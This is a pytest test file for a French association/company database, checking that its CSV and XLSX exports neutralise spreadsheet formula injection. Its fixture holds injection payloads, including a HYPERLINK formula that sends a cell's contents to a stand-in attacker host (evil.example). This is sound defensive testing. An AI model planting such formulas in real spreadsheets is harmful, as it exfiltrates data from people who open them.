"""Exports to CSV (French Excel) and XLSX, with spreadsheet formulas neutralised."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from passerelle.domain.errors import ValidationError
from passerelle.services import exports, files, imports, interactions
from passerelle.services import organisations as orgs
from passerelle.services.lists import ListQuery
from passerelle.services.spreadsheets import SpreadsheetError, read_sheet
from passerelle.store.database import Database

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'


@pytest.fixture
def filled(db: Database) -> Database:
    assoc = orgs.create_organisation(db, kind="association", name=HYPERLINK,
                                     rna="W595012345", commune_insee="59378",
                                     commune_name="Marcq-en-Barœul", themes=["solidarité"],
                                     description="+33 est un indicatif\n@twitter")
    company = orgs.create_organisation(db, kind="entreprise", name="Boulangerie Dupont",
                                       siret="41234567000019", phone="03 20 12 34 56")
    orgs.create_contact(db, first_name="-Awa", last_name="Diallo", organisation_id=assoc.id,
                        role="Présidente", email="awa@example.fr")
    file_ = files.open_file(db, title="@SUM(1+1)*cmd", association_id=assoc.id,
                            company_id=company.id)
    interactions.log_interaction(db, interactions.MeetingInput(
        subject="=1+1", file_id=file_.id, organisation_id=assoc.id,
        occurred_at=datetime(2026, 3, 2, 10, 30), duration_minutes=45,
        notes="Premier échange\n- relancer", decisions="Convention à rédiger"))
    return db


def test_csv_export_opened_as_text_shows_neutralised_formulas(filled: Database,
                                                                tmp_path: Path) -> None:
    out = tmp_path / "organisations.csv"
    assert exports.export(filled, "organisations", out) == 2
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: French Excel reads UTF-8
    text = raw.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    rows = list(csv.reader(text.splitlines(), delimiter=";"))
    assert rows[0][:5] == ["Nom", "Type", "SIREN", "SIRET", "N° RNA"]
    by_name = {r[0]: r for r in rows[1:]}
    hyper = by_name["'" + HYPERLINK]
    assert hyper[1] == "Association" and hyper[11] == "Marcq-en-Barœul"
    assert by_name["Boulangerie Dupont"][16] == "03 20 12 34 56"
    for what in ("contacts", "files", "interactions"):
        path = tmp_path / f"{what}.csv"
        exports.export(filled, what, path)
        content = path.read_text(encoding="utf-8-sig")
        for cell in (c for r in csv.reader(content.splitlines(), delimiter=";") for c in r):
            assert not cell.startswith(("=", "+", "-", "@")), (what, cell)
    assert "'@SUM(1+1)*cmd" in (tmp_path / "files.csv").read_text(encoding="utf-8-sig")
    assert "'-Awa" in (tmp_path / "contacts.csv").read_text(encoding="utf-8-sig")


def test_xlsx_export_keeps_text_not_formulas(filled: Database, tmp_path: Path) -> None:
    out = tmp_path / "echanges.xlsx"
    assert exports.export(filled, "interactions", out) == 1
    sheet = load_workbook(out).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == exports.INTERACTION_HEADERS
    when, kind, subject, minutes, ref, org_name, _people, notes, decisions, _author = rows[1]
    assert when == datetime(2026, 3, 2, 10, 30) and minutes == 45
    assert subject == "'=1+1" and org_name == "'" + HYPERLINK
    assert notes == "Premier échange\n- relancer" and decisions == "Convention à rédiger"
    assert ref.startswith("D-")
    assert sheet.cell(row=2, column=3).data_type == "s"  # a string, never a formula


def test_export_follows_the_list_query_and_reimports(filled: Database, tmp_path: Path,
                                                     tmp_path_factory: pytest.TempPathFactory
                                                     ) -> None:
    out = tmp_path / "entreprises.xlsx"
    assert exports.export(filled, "organisations", out,
                          query=ListQuery(filters={"kind": "entreprise"})) == 1
    sheet = read_sheet(out)
    mapping = imports.auto_mapping("organisations", sheet.headers)
    assert {"name", "kind", "siren", "siret", "rna", "postal_code", "commune", "commune_insee",
            "email", "phone", "themes", "description"} <= set(mapping)
    other = Database(tmp_path_factory.mktemp("other") / "other.sqlite")
    try:
        report = imports.import_sheet(other, sheet, "organisations")
        assert report.ok and report.created == 1
        assert orgs.get_organisation(other, first_id(other)).siret == "41234567000019"
    finally:
        other.close()


def first_id(db: Database):  # type: ignore[no-untyped-def]
    from passerelle.services.lists import OrganisationRows

    source = OrganisationRows(db)
    return next(iter(source.rows(source.ids(ListQuery()).tolist()).values())).id


def test_bad_export_requests(filled: Database, tmp_path: Path) -> None:
    with pytest.raises(SpreadsheetError):
        exports.export(filled, "organisations", tmp_path / "x.ods")
    with pytest.raises(ValidationError):
        exports.export(filled, "tasks", tmp_path / "x.csv")
    assert not list(tmp_path.glob("x.*"))


def test_cancelled_export_leaves_no_file(filled: Database, tmp_path: Path) -> None:
    import threading

    from passerelle.services.spreadsheets import Cancelled

    cancel = threading.Event()
    cancel.set()
    for name in ("orgs.csv", "orgs.xlsx"):
        with pytest.raises(Cancelled):
            exports.export(filled, "organisations", tmp_path / name, cancel=cancel)
    assert not list(tmp_path.glob("orgs*"))
